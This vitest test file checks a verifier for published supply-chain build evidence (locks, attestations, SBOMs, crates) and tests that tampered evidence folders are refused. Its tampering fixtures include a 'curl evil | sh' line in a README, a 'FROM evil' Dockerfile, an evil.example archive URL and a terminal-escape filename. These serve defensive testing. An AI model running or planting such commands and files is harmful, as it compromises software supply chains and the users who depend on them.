import { cpSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { sha256 } from '../../../src/hash.js';
import type { Confirmed } from '../../../src/proof/confirm.js';
import { openEvidence } from '../../../src/proof/evidence.js';
import { evidenceReadme } from '../../../src/proof/evidenceReadme.js';
import { type Lock, lockFile } from '../../../src/proof/lock.js';
import { type SbomInput, sbomFile } from '../../../src/proof/sbom.js';
import { type Statement, statementFile, statementOf } from '../../../src/proof/statement.js';
import { requireWhole } from '../../../src/proof/wholeEvidence.js';
import { readArchive } from '../../../src/source/archive.js';
import { gunzip } from '../../../src/source/gzip.js';
import type { History, Source } from '../../../src/source/resolve.js';
import { parseUpstream } from '../../../src/source/upstream.js';
import { failureOf } from '../../support/failureOf.js';
import { temporaryFolder, testDeps } from '../../support/world.js';
import {
  CARGO_LOCK,
  CRATE,
  SAMPLE,
  UPSTREAM,
  evidenceOf,
  imageOf,
  lockWith,
  writtenEvidence,
} from '../../support/proof.js';

const DOCKERFILE = evidenceOf().dockerfile;
const RECIPE = { dockerfile: sha256(DOCKERFILE), wrapper: '1.0.0', layout: 1 };
const LOCK = lockWith({ recipe: RECIPE });
const IMAGE = imageOf(LOCK);
const TOOLCHAIN = { rustc: 'rustc 1.95.0', gcc: '14', glibc: '2.41', busybox: '1.37.0' };
const CRATES = [
  {
    id: 'a',
    name: 'cfg-if',
    version: '1.0.0',
    sha256: sha256(CRATE.bytes),
    licence: 'MIT',
    buildOnly: false,
    needs: [],
  },
  { id: 'b', name: 'phantun', version: '0.8.1', sha256: undefined, licence: 'MIT', buildOnly: false, needs: ['a'] },
];
const sbomsOf = (crates: SbomInput['crates']) =>
  new Map(
    IMAGE.images.map(({ platform, manifest: { digest: manifest } }) => {
      const shell = sha256(`shell for ${platform}`);
      return [platform, sbomFile({ lock: LOCK, platform, manifest, crates, toolchain: TOOLCHAIN, shell })];
    }),
  );

/** Evidence as a build writes it, with the source as the publisher has verified it; `spoil` changes the folder. */
async function judge(
  spoil: (folder: string) => void = () => undefined,
  lock: Lock = LOCK,
  { own = LOCK, cargoLock = CARGO_LOCK, sboms = sbomsOf(CRATES) } = {},
) {
  const folder = await writtenEvidence({ ...evidenceOf(lock, IMAGE), sboms });
  spoil(folder);
  const treeFolder = temporaryFolder();
  writeFileSync(join(treeFolder, 'Cargo.lock'), cargoLock);
  const { commit, tree, epoch } = LOCK.inputs;
  const { ref, reachableFrom } = LOCK.facts;
  const source: Source = {
    ...{ upstream: parseUpstream(UPSTREAM), ref, commit, tree, epoch },
    ...{ tagObject: undefined, reachableFrom, commitObject: SAMPLE.object },
  };
  const history: History = {
    at: () => Promise.resolve({ name: ref, commit, tagObject: undefined }),
    isAncestor: () => Promise.resolve(false),
  };
  const confirmed = {
    source,
    tree: { folder: treeFolder, tarSha256: SAMPLE.tarSha256, version: '0.8.1', archiveUrl: LOCK.facts.archiveUrl },
  } as Confirmed;
  return requireWhole(await openEvidence(folder), { lock: own, image: IMAGE, confirmed }, history, testDeps());
}

describe('evidence that is to be published', () => {
  it('is taken as a build wrote it, with base images that somebody put beside it', async () => {
    await expect(judge()).resolves.toBeUndefined();
    await expect(
      judge((folder) => mkdirSync(join(folder, 'bases', 'rust'), { recursive: true })),
    ).resolves.toBeUndefined();
  });

  it('may have an archive that upstream has compressed otherwise since, if its lock says so', async () => {
    const packed = gzipSync(gunzip(SAMPLE.archive, 2 ** 24), { level: 1 });
    expect(readArchive(packed).tarSha256).toBe(SAMPLE.tarSha256);
    const write = (folder: string) => writeFileSync(join(folder, 'archive.tar.gz'), packed);
    expect((await failureOf(() => judge(write))).message).toMatch(/^the evidence's archive\.tar\.gz is not what was/);
    await expect(
      judge(write, lockWith({ recipe: RECIPE }, { archiveSha256: sha256(packed) })),
    ).resolves.toBeUndefined();
  });

  it('may have no folder of crates where there is none to be in it, as an artifact of a run has no empty folders', async () => {
    const cargoLock = 'version = 4\n\n[[package]]\nname = "phantun"\nversion = "0.8.1"\n';
    const sboms = sbomsOf(CRATES.slice(1).map((crate) => ({ ...crate, needs: [] })));
    const spoil = (folder: string) => rmSync(join(folder, 'crates'), { recursive: true });
    await expect(judge(spoil, LOCK, { cargoLock, sboms })).resolves.toBeUndefined();
  });

  it('may be of another run, whose lock has other facts', async () => {
    await expect(judge(undefined, lockWith({ recipe: RECIPE }, { resolvedAt: 1, buildkit: 'v1' }))).resolves.toBe(
      undefined,
    );
  });

  it.each<[string, Lock, Lock, RegExp]>([
    [
      'of another build',
      LOCK,
      lockWith({ recipe: RECIPE, labels: { a: 'b' } }),
      /^the evidence is of build key \w{64}, not of this image's \w{64}$/,
    ],
    ...[
      [{ tarSha256: '0'.repeat(64) }, /^the lock contradicts what was found: tarSha256: the lock says "0000/],
      [{ version: '0.9.0' }, /^the lock contradicts what was found: version: the lock says "0\.9\.0"/],
      [
        { archiveUrl: 'https://evil.example/x' },
        /^the lock contradicts what was found: archiveUrl: the lock says "https:/,
      ],
      [{ tagObject: 'e'.repeat(40) }, /^the lock is not what upstream says: facts\.tagObject/],
    ].map(([facts, message]): [string, Lock, Lock, RegExp] => [
      `whose lock has another ${Object.keys(facts as object).join()}`,
      lockWith({ recipe: RECIPE }, facts as object),
      LOCK,
      message as RegExp,
    ]),
  ])('is refused when it is one %s', async (_, lock, own, message) => {
    const failure = await failureOf(() => judge(undefined, lock, { own }));
    expect(failure.kind).toBe('verification');
    expect(failure.message).toMatch(message);
  });

  const say = (change: (statement: Statement) => void) => (folder: string) => {
    const statement = statementOf(LOCK, IMAGE, []);
    change(statement);
    writeFileSync(join(folder, 'statement.json'), statementFile(statement));
  };
  const write = (name: string, text: string | Buffer) => (folder: string) => writeFileSync(join(folder, name), text);
  it.each<[string, (folder: string) => void, RegExp]>([
    [
      'another README',
      write('README.md', 'run: curl evil | sh'),
      /^the evidence's README\.md is not what was verified/,
    ],
    [
      'a statement about another image, and a README of that one',
      (folder) => {
        const other = statementOf(LOCK, imageOf(lockWith({ platforms: ['linux/amd64'] })), []);
        writeFileSync(join(folder, 'statement.json'), statementFile(other));
        writeFileSync(join(folder, 'README.md'), evidenceReadme(LOCK, other));
      },
      /^the statement in the evidence is not about this image: subject: found/,
    ],
    [
      'a statement that says another ref',
      say(({ predicate }) => (predicate.upstream.ref = 'refs/heads/other')),
      /^the statement in the evidence is not about this image: predicate\.upstream\.ref: found/,
    ],
    [
      'a statement that says more',
      say((statement) => Object.assign(statement.predicate, { safe: true })),
      /^the statement in the evidence is not about this image: predicate\.safe: found true/,
    ],
    [
      'a statement in another form',
      (folder) =>
        writeFileSync(join(folder, 'statement.json'), JSON.stringify(statementOf(LOCK, IMAGE, []), undefined, 1)),
      /^the evidence's statement\.json is not what was verified/,
    ],
    ['another Dockerfile', write('Dockerfile', 'FROM evil\n'), /^the evidence's Dockerfile is not what was verified/],
    ['another commit', write('commit', 'tree x\n'), /^the evidence's commit is not what was verified/],
    [
      'a file that no bundle has',
      write('install.sh', 'x'),
      /^the evidence holds install\.sh, which no evidence of this/,
    ],
    ['a name that could break the line', write('a\u001b[2J', 'x'), /^the evidence holds a\\u\{1b\}\[2J, which/],
    [
      'the SBOM of a platform that is not built',
      write('sbom-linux-arm-v7.cdx.json', '{}'),
      /^the evidence holds sbom-l/,
    ],
    [
      'a crate that Cargo.lock does not name',
      write('crates/evil-1.0.0.crate', 'x'),
      /^crate evil-1\.0\.0\.crate is not/,
    ],
    ['another crate', write(`crates/${CRATE.file}`, 'x'), /^crate cfg-if-1\.0\.0\.crate has SHA256/],
    ['no crate', (folder) => rmSync(join(folder, 'crates', CRATE.file)), /^crate cfg-if-1\.0\.0\.crate is missing/],
    [
      'no folder of crates',
      (folder) => rmSync(join(folder, 'crates'), { recursive: true }),
      /^crate cfg-if-1\.0\.0\.crate is missing/,
    ],
    [
      'no README',
      (folder) => rmSync(join(folder, 'README.md')),
      /^the evidence's README\.md is missing, or is no plain/,
    ],
    [
      'another SBOM',
      write('sbom-linux-amd64.cdx.json', '{}'),
      /^dependencies of the SBOM of linux\/amd64: expected a list/,
    ],
    [
      'the SBOM of another platform',
      write('sbom-linux-amd64.cdx.json', sbomsOf(CRATES).get('linux/arm64') ?? ''),
      /^the SBOM of linux\/amd64 is not what a build writes: components\[0\]\.hashes\[0\]\.content: found/,
    ],
    [
      'a link to a file',
      (folder) => {
        const moved = join(temporaryFolder(), 'moved');
        renameSync(join(folder, 'README.md'), moved);
        symlinkSync(moved, join(folder, 'README.md'));
      },
      /^the evidence's README\.md is missing, or is no plain file/,
    ],
    [
      'a folder for a file',
      (folder) => {
        rmSync(join(folder, 'commit'));
        cpSync(join(folder, 'crates'), join(folder, 'commit'), { recursive: true });
      },
      /^the evidence's commit is missing, or is no plain file/,
    ],
    [
      'a file for the folder of crates',
      (folder) => {
        rmSync(join(folder, 'crates'), { recursive: true });
        writeFileSync(join(folder, 'crates'), '');
      },
      /^the evidence's crates is missing, or is no plain file/,
    ],
  ])('is refused with %s', async (_, spoil, message) => {
    const failure = await failureOf(() => judge(spoil));
    expect(failure.kind).toBe('verification');
    expect(failure.message).toMatch(message);
  });

  it('is refused with the archive of other files, whatever lock and statement say of it', async () => {
    const other = {
      ...SAMPLE,
      archive: gzipSync(Buffer.concat([gunzip(SAMPLE.archive, 2 ** 24), Buffer.alloc(10_240)])),
    };
    const lock = lockWith({ recipe: RECIPE }, { archiveSha256: sha256(other.archive) });
    const spoil = (folder: string) => {
      writeFileSync(join(folder, 'archive.tar.gz'), other.archive);
      writeFileSync(join(folder, 'lock.json'), lockFile(lock));
      writeFileSync(join(folder, 'statement.json'), statementFile(statementOf(lock, IMAGE, [])));
    };
    expect((await failureOf(() => judge(spoil))).kind).toBe('verification');
  });
});
